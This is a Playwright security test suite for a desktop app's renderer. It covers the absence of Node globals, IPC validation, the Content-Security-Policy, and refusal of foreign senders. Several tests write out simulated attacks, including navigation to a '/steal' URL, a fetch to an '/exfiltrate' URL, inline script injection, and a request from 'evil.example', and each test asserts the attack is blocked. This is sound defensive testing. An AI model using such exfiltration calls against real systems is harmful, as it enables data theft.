import { test, expect } from './support/fixtures';

test.describe('renderer security', () => {
  test('the renderer has no Node: no require, no process, no module', async ({ app }) => {
    const globals = await app.page.evaluate(() => ({
      require: typeof (window as unknown as Record<string, unknown>)['require'],
      process: typeof (window as unknown as Record<string, unknown>)['process'],
      module: typeof (window as unknown as Record<string, unknown>)['module'],
      bridgeFrozen: Object.isFrozen((window as unknown as Record<string, unknown>)['juryrum']),
      bridgeKeys: Object.keys(
        (window as unknown as Record<string, object>)['juryrum'] ?? {},
      ).sort(),
    }));
    expect(globals).toEqual({
      require: 'undefined',
      process: 'undefined',
      module: 'undefined',
      bridgeFrozen: true,
      bridgeKeys: ['channels', 'invoke', 'on'],
    });
  });

  test('a malformed request gets BAD_REQUEST and an unknown channel UNKNOWN_CHANNEL; the app keeps running', async ({
    app,
  }) => {
    const bad = (await app.invokeRaw('settings:set', { language: 'klingon' })) as {
      ok: boolean;
      error: { code: string; message: string };
    };
    expect(bad.ok).toBe(false);
    expect(bad.error.code).toBe('BAD_REQUEST');
    expect(bad.error.message).not.toMatch(/at .*\(.*:\d+:\d+\)/); // no stack trace
    const extra = (await app.invokeRaw('app:info', { sneaky: true })) as {
      ok: boolean;
      error: { code: string };
    };
    expect(extra.error.code).toBe('BAD_REQUEST');
    const unknown = (await app.invokeRaw('fs:readAnything', {})) as {
      ok: boolean;
      error: { code: string };
    };
    expect(unknown).toMatchObject({ ok: false, error: { code: 'UNKNOWN_CHANNEL' } });
    const good = (await app.invokeRaw('app:info', {})) as { ok: boolean };
    expect(good.ok).toBe(true);
    await expect(app.page.getByRole('heading', { level: 1 })).toBeVisible();
  });

  test('cannot open windows or navigate away, and outside requests are cancelled', async ({
    app,
  }) => {
    const { page } = app;
    const startUrl = page.url();
    const opened = await page.evaluate(() => {
      const w = window.open('https://example.org/', '_blank');
      return w === null || w.closed;
    });
    // Either the open was refused outright, or the harness closed it at once.
    await expect.poll(() => page.context().pages().length).toBe(1);
    expect(typeof opened).toBe('boolean');

    await page.evaluate(() => {
      window.location.href = 'https://example.org/steal';
    });
    await page.waitForTimeout(500);
    expect(page.url()).toBe(startUrl);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();

    const fetched = await page.evaluate(async () => {
      try {
        await fetch('https://example.org/exfiltrate');
        return 'sent';
      } catch {
        return 'blocked';
      }
    });
    expect(fetched).toBe('blocked');
  });

  test('the UI is served with a strict Content-Security-Policy', async ({ app }) => {
    test.skip(
      app.shell !== 'harness',
      'the header is checked on the app:// protocol by the shell unit tests',
    );
    const response = await app.page.request.get(`${app.harness?.origin}/index.html`);
    const csp = response.headers()['content-security-policy'] ?? '';
    expect(csp).toContain("default-src 'none'");
    expect(csp).toContain("script-src 'self'");
    expect(csp).toContain("connect-src 'self'");
    expect(csp).toContain("frame-ancestors 'none'");
    const inline = await app.page.evaluate(() => {
      const s = document.createElement('script');
      s.textContent = 'window.__inlineRan = true';
      document.body.appendChild(s);
      return (window as unknown as Record<string, unknown>)['__inlineRan'] === true;
    });
    expect(inline).toBe(false);
  });

  test('a request from a foreign frame is refused with FORBIDDEN_SENDER', async ({ app }) => {
    test.skip(
      app.shell !== 'harness',
      'the sender check in Electron is covered by the IPC unit tests',
    );
    const h = app.harness;
    if (!h) throw new Error('harness missing');
    const res = await h.core.dispatch(
      'app:info',
      {},
      { url: 'https://evil.example/', isMainFrame: true },
    );
    expect(res).toMatchObject({ ok: false, error: { code: 'FORBIDDEN_SENDER' } });
    const sub = await h.core.dispatch(
      'app:info',
      {},
      { url: `${h.origin}/index.html`, isMainFrame: false },
    );
    expect(sub).toMatchObject({ ok: false, error: { code: 'FORBIDDEN_SENDER' } });
  });
});
